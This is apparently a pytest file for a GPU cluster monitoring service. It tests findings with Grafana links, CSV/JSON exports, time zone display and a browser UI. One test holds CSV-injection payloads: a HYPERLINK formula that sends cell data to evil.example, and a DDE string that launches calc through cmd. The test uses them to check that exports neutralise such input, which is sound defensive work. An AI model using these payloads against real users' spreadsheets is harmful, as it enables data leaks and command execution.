"""Findings with placement and a metrics link, CSV/JSON export of findings and audit, the display time zone
(issue 14, items 4 and 8)."""

from __future__ import annotations

import csv
import io
import json

import pytest

from agent.cli.main import main
from agent.config.settings import ApiToken, Settings
from tests.test_server_api import START, advance, client_for, settings_for

TEMPLATE = "https://grafana.example.com/d/gpu?var-namespace={namespace}&var-pod={pod}&var-node={node}"
TOKENS = {"viewer-token": ApiToken(name="vera", role="viewer")}
VIEWER = {"Authorization": "Bearer viewer-token"}


@pytest.fixture
def client(tmp_path):
    settings = settings_for(tmp_path, metrics_url_template=TEMPLATE, api_tokens=TOKENS,
                            display_tz="Asia/Shanghai")
    with client_for(settings, start_s=START) as c:
        advance(c, 300)
        c.app.state.runtime.sweep_now("test")
        yield c


def _csv(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")  # Excel opens it as UTF-8
    return list(csv.DictReader(io.StringIO(text[1:])))


def test_findings_carry_namespace_team_pool_and_a_metrics_link(client):
    found = client.get("/api/findings", headers=VIEWER).json()["findings"]
    jobs = {f["target"]: f for f in found if f["target_type"] == "job"}
    pools = [f for f in found if f["target_type"] == "pool"]
    assert jobs and pools
    carol = jobs["ml-team/jupyter-carol"]
    assert carol["namespace"] == "ml-team" and carol["team"] and carol["node"] and carol["pool"]
    assert carol["metrics_url"] == TEMPLATE.format(namespace="ml-team", pod="jupyter-carol", node=carol["node"])
    assert pools[0]["pool"] == pools[0]["target"] and "var-pod=&" in pools[0]["metrics_url"]
    pending = client.get("/api/approvals", headers=VIEWER).json()["pending"]
    assert pending and pending[0]["metrics_url"].startswith("https://grafana.example.com/")


def test_findings_export_as_csv_and_json_matches_the_findings_tab(client):
    shown = client.get("/api/findings", headers=VIEWER).json()["findings"]
    resp = client.get("/api/findings/export?format=csv", headers=VIEWER)
    assert resp.status_code == 200 and resp.headers["content-type"].startswith("text/csv")
    assert 'filename="steward-findings.csv"' in resp.headers["content-disposition"]
    rows = _csv(resp.text)
    assert [(r["kind"], r["target"], r["team"], r["pool"]) for r in rows] == \
        [(f["kind"], f["target"], f["team"] or "", f["pool"] or "") for f in shown]
    as_json = client.get("/api/findings/export?format=json&lang=zh", headers=VIEWER).json()
    assert [r["target"] for r in as_json] == [f["target"] for f in shown]
    assert any("块 GPU" in r["evidence"] for r in as_json)
    assert client.get("/api/findings/export?format=xls", headers=VIEWER).status_code == 422


def test_audit_export_filters_and_reads_times_plainly(client):
    resp = client.get("/api/audit/export?format=csv&kind=approval", headers=VIEWER)
    rows = _csv(resp.text)
    assert rows and {r["kind"] for r in rows} == {"approval"}
    assert rows[0]["hash"] and json.loads(rows[0]["data"])["approval_id"].startswith("apr_")
    # The stored reason keeps its ISO time; the reason for people reads it plainly.
    assert "T" in rows[0]["reason"].split("until ")[1] and " UTC" in rows[0]["text"]
    assert "+00:00" not in rows[0]["text"]
    everything = client.get("/api/audit/export?format=json", headers=VIEWER).json()
    assert len(everything) == client.app.state.runtime.deps.audit.count()
    assert [e["seq"] for e in everything] == sorted((e["seq"] for e in everything), reverse=True)


def test_exports_need_a_viewer(client):
    for path in ("/api/findings/export", "/api/audit/export"):
        assert client.get(path).status_code == 401
        assert client.get(path, headers={"Authorization": "Bearer wrong"}).status_code == 401


def test_the_display_time_zone_is_shown_and_validated(client):
    assert client.get("/healthz").json()["display_tz"] == "Asia/Shanghai"
    with pytest.raises(ValueError, match="STEWARD_DISPLAY_TZ='Mars/Olympus' is not a time zone"):
        Settings(display_tz="Mars/Olympus")
    with pytest.raises(ValueError, match=r"only placeholders are \{namespace\}, \{pod\} and \{node\}"):
        Settings(metrics_url_template="https://grafana/d?job={job}")
    with pytest.raises(ValueError, match="http"):
        Settings(metrics_url_template="grafana/{pod}")


def test_sweep_prints_times_in_the_display_zone_with_dates(capsys, monkeypatch, tmp_path):
    monkeypatch.setenv("STEWARD_DISPLAY_TZ", "Asia/Shanghai")
    monkeypatch.setenv("STEWARD_DATA_DIR", str(tmp_path))
    assert main(["sweep", "--at", "3h", "--every", "30m"]) == 0
    out = capsys.readouterr().out
    # The demo runs 14:00-17:00 UTC: 22:00 on 11-02 to 01:00 on 11-03 in Shanghai; past midnight the date shows.
    assert "from 2026-11-02 22:00 to 11-03 01:00 Asia/Shanghai" in out
    assert "  11-03 00:" in out or "  11-03 01:" in out
    # The report's body too (its audited copy stays in UTC).
    assert "GPU Steward sweep at 2026-11-03 01:00 Asia/Shanghai:" in out and "sweep at 2026-11-02 17:00 UTC" not in out


@pytest.mark.integration
def test_findings_filter_sort_and_times_in_the_display_zone_in_a_browser(tmp_path):
    from tests.conftest import free_port, require_binary, require_module
    from tests.test_web_ui_browser import CHROMIUM_ARGS

    chromium = require_binary("chromium", "/usr/bin/chromium")
    require_module("playwright")
    from playwright.sync_api import expect, sync_playwright

    from agent.api.local_server import serve_in_thread
    from server import create_app

    settings = Settings(data_dir=tmp_path, leader_lock="none", sweep_every_s=300, display_tz="Asia/Shanghai",
                        metrics_url_template=TEMPLATE)
    app = create_app(settings, speed=0, start_s=START, run_scheduler=False)
    with serve_in_thread(app, free_port()) as base, sync_playwright() as pw:
        runtime = app.state.runtime
        with runtime.graph_lock:
            runtime.sim_clock.cluster.advance(300)
        runtime.sweep_now("test")
        found = runtime.findings()
        browser = pw.chromium.launch(executable_path=chromium, args=CHROMIUM_ARGS)
        page = browser.new_page(viewport={"width": 1280, "height": 800})
        errors: list[str] = []
        page.on("pageerror", lambda exc: errors.append(str(exc)))
        page.goto(base + "/#findings")
        rows = page.locator("#findings-table tbody tr")
        expect(rows).to_have_count(len(found), timeout=20_000)
        # 17:55 UTC is 01:55 the next day in Shanghai: the clock and the sweep time say so.
        expect(page.locator("#clock")).to_have_text("01:55 Asia/Shanghai", timeout=20_000)
        expect(page.locator("#findings-at")).to_have_text("11-03 01:55 Asia/Shanghai")

        page.select_option("#findings-filter select[name=by]", "namespace")
        page.select_option("#findings-filter select[name=value]", "ml-team")
        expect(rows).to_have_count(sum(1 for f in found if f.target.startswith("ml-team/")))
        expect(rows.first).to_contain_text("ml-team/")
        expect(rows.first.locator("a.metrics")).to_have_attribute("href", TEMPLATE.format(
            namespace="ml-team", pod=rows.first.get_attribute("data-target").split("/")[1],
            node=runtime.newest_observation().jobs_by_id()[rows.first.get_attribute("data-target")].node))

        page.select_option("#findings-filter select[name=value]", "")
        page.click("#findings-table th[data-sort=target]")
        targets = [r.get_attribute("data-target") for r in rows.all()]
        assert targets == sorted(f.target for f in found)
        page.click("#findings-table th[data-sort=target]")
        assert [r.get_attribute("data-target") for r in rows.all()] == sorted(targets, reverse=True)

        with page.expect_download() as got:
            page.click("#findings-filter button.export[data-format=csv]")
        assert got.value.suggested_filename == "steward-findings.csv"
        browser.close()
    assert errors == []


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(client):
    """A reason from a chat message or the API is the sender's text: `=HYPERLINK(...)` in a CSV opened in Excel is a
    live link (OWASP CSV injection). In CSV it starts with `'`; JSON keeps it as it was."""
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    runtime = client.app.state.runtime
    runtime.deps.audit.record("exemption", at=runtime.deps.clock.now(), run_id="test", target="ml-team/jupyter-carol",
                              status="granted", reason=formula, data={"until": "2026-11-03T00:00:00+00:00"})
    runtime.deps.audit.record("decision", at=runtime.deps.clock.now(), run_id="test", target="@SUM(1+1)*cmd|' /C calc'!A0",
                              action="keep", status="refused", reason="-2+3", data={})
    rows = _csv(client.get("/api/audit/export?format=csv", headers=VIEWER).text)
    cells = [v for r in rows for v in r.values() if v]
    assert "'" + formula in cells and "'-2+3" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [v for v in cells if v[0] in "=+-@\t\r"]
    as_json = client.get("/api/audit/export?format=json", headers=VIEWER).json()
    assert formula in [e["reason"] for e in as_json]
